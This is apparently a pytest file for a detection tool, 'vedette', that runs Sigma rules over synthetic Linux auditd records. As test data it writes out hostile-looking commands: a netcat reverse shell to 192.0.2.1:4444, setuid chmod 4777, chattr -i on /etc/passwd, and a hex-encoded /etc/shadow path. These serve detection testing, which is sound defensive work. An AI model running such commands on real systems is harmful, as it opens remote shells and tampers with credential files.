"""vedette scan over audit logs: records are events, a program's start is one."""
import json
import os
import re
import subprocess

import pytest

VEDETTE = os.environ.get("VEDETTE", "vedette")
SOURCE = os.environ.get("VEDETTE_SOURCE", ".")
SIGMA = os.path.join(SOURCE, "../shared/sigma/rules/linux")

RULE = """
title: {title}
id: 5b1f7a52-1d0c-4c3e-8f7e-0d8a2b9c4e{n:02}
status: test
logsource: {source}
detection: {{ sel: {selection}, condition: sel }}
level: medium
"""
AUDITD = "{ product: linux, service: auditd }"
PROCESS = "{ product: linux, category: process_creation }"
RULES = [
    (AUDITD, "{ type: EXECVE, a0: chmod, a1: 4777 }"),
    (AUDITD, "{ type: SYSCALL, SYSCALL: execve, euid: 0, key: exec }"),
    (AUDITD, "{ type: PATH, name|startswith: '/etc/shad' }"),
    (PROCESS, "{ Image|endswith: /sh, CommandLine|contains: \"-c 'id; x'\" }"),
    (PROCESS, "{ Image|endswith: /dash, User: root, CurrentDirectory: /tmp }"),
    (PROCESS, "{ LogonId: 33, ParentProcessId: 10, ProcessId: 1007 }"),
    (AUDITD, "{ type: USER_LOGIN, acct: 'e ve', res: failed }"),
]


def text(value):
    """As the kernel writes what a user chose."""
    if re.fullmatch(r'[!#-~]*', value):
        return f'"{value}"'
    return value.encode().hex().upper()


def start(serial, argv, exe, path, uid=0, cwd="/tmp"):
    head = f"msg=audit(1700000000.{serial:03}:{serial}):"
    return [
        f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 "
        f"a0=1 a1=2 a2=3 a3=8 items=2 ppid=10 pid={1000 + serial} auid=1000 "
        f"uid={uid} gid=0 euid={uid} tty=pts0 ses=1 comm={text(argv[0][:15])} "
        f"exe={text(exe)} key=\"exec\"",
        f"type=EXECVE {head} argc={len(argv)} " +
        " ".join(f"a{i}={text(a)}" for i, a in enumerate(argv)),
        f"type=CWD {head} cwd={text(cwd)}",
        f"type=PATH {head} item=0 name={text(path)} inode=1 nametype=NORMAL",
        f"type=PROCTITLE {head} proctitle=" +
        "\0".join(argv).encode().hex().upper()]


def scan(rules, tmp_path, lines):
    log, config = tmp_path / "audit.log", tmp_path / "c.yaml"
    log.write_text("\n".join(lines) + "\n")
    config.write_text(f"rules: [{rules}]\n")
    r = subprocess.run([VEDETTE, "scan", "-c", str(config), "--format", "json",
                        str(log)], capture_output=True, text=True, timeout=60)
    assert r.returncode in (0, 1), r.stderr
    return [json.loads(line) for line in r.stdout.splitlines()]


@pytest.fixture
def rules(tmp_path):
    d = tmp_path / "rules"
    d.mkdir()
    for n, (source, selection) in enumerate(RULES):
        (d / f"{n}.yml").write_text(RULE.format(
            title=n, n=n, source=source, selection=selection))
    return d


@pytest.mark.parametrize("lines, found", [
    (start(1, ["chmod", "4777", "/tmp/x"], "/usr/bin/chmod",
           "/usr/bin/chmod", 1000), {"0"}),
    (start(2, ["sh", "-c", "'id; x'"], "/usr/bin/dash", "/bin/sh", 1000),
     {"3"}),
    (start(3, ["x"], "/usr/bin/dash", "/bin/dash"), {"1", "4"}),
    (start(7, ["x"], "/usr/bin/x", "/usr/bin/x", 33), {"5"}),
    # Nothing of a SYSCALL's registers is text.
    (start(8, ["true"], "/usr/bin/true", "/usr/bin/true", 1000), set()),
    (["type=PATH msg=audit(1700000000.123:9): item=0 "
      "name=2F6574632F736861646F77 nametype=NORMAL"], {"2"}),
    (["type=USER_LOGIN msg=audit(1700000000.123:9): pid=1 uid=0 msg='op=login "
      "acct=65207665 exe=\"/usr/sbin/sshd\" addr=192.0.2.1 res=failed'"], {"6"}),
    # The end of the file ends what has no end.
    (start(7, ["x"], "/usr/bin/x", "/usr/bin/x", 33)[:-1], {"5"}),
])
def test_rules_see_records_and_starts(rules, tmp_path, lines, found):
    assert {a["rule"]["name"] for a in scan(rules, tmp_path, lines)} == found


def test_an_alert_shows_all_records_of_a_start(rules, tmp_path):
    lines = start(7, ["x", "a b"], "/usr/bin/x", "/usr/bin/x", 33)
    a, = scan(rules, tmp_path, ["type=BOOT msg=audit(1.0:1): x"] + lines)
    assert a["event"]["original"] == "\n".join(lines)
    assert a["@timestamp"] == "2023-11-14T22:13:20.007000Z"
    assert a["process"]["command_line"] == "x a b"
    assert a["process"]["executable"] == "/usr/bin/x"
    assert a["process"]["pid"] == 1007
    assert a["log"]["offset"] == len("type=BOOT msg=audit(1.0:1): x\n")
    assert a["line"] == 6


@pytest.mark.parametrize("argv, exe, path, title", [
    (["chattr", "-i", "/etc/passwd"], "/usr/bin/chattr", "/usr/bin/chattr",
     "Remove Immutable File Attribute - Auditd"),
    (["chattr", "-i", "/etc/passwd"], "/usr/bin/chattr", "/usr/bin/chattr",
     "Remove Immutable File Attribute"),
    (["crontab", "-r"], "/usr/bin/crontab", "/usr/bin/crontab",
     "Remove Scheduled Cron Task/Job"),
    (["sh", "-c", "nc -e /bin/sh 192.0.2.1 4444"], "/usr/bin/dash", "/bin/sh",
     "Bash Interactive Shell|Suspicious Shell|Netcat|Reverse"),
    (["base64", "-d", "/tmp/x"], "/usr/bin/base64", "/usr/bin/base64",
     "Decode Base64 Encoded Text"),
    (["useradd", "-m", "eve"], "/usr/sbin/useradd", "/usr/sbin/useradd",
     "Creation Of An User Account"),
])
def test_public_rules_fire_on_what_was_run(tmp_path, argv, exe, path, title):
    if not os.path.isdir(SIGMA):
        pytest.skip("no public rules beside the tree")
    names = [a["rule"]["name"] for a in
             scan(SIGMA, tmp_path, start(5, argv, exe, path))]
    assert any(re.search(title, n) for n in names), names
